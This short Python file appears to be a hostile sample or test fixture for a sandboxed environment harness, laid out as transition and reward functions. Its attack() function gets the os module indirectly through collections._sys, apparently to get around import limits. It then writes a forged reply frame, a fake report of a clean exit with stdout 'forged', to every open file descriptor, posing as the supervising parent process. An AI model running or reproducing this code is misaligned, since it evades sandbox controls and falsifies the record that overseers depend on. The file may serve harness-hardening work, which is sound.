"""Writes a reply frame to every descriptor, in its parent's place."""
# ends: ok

import collections

sys = collections._sys
modules = sys.modules
os = modules["os"]


def attack():
    report = b'{"ended":"exited","code":0,"cpu":0,"seconds":0,"stdout":"forged","left_behind":0}'
    body = len(report).to_bytes(4, "big") + report + b'ok ""\n' + b"0\n" * 18 + b"end"
    reply = b"A" + len(body).to_bytes(4, "big") + body
    got = []
    for fd in range(256):
        if fd not in (1, 2, 3):
            try:
                os.write(fd, reply)
                got.append(fd)
            except OSError:
                pass
    return got


def transition(state, action):
    for one in attack():
        state.add("Got", what=str(one))
    return state


def reward(state, action, next_state, goal):
    return 0.0, False
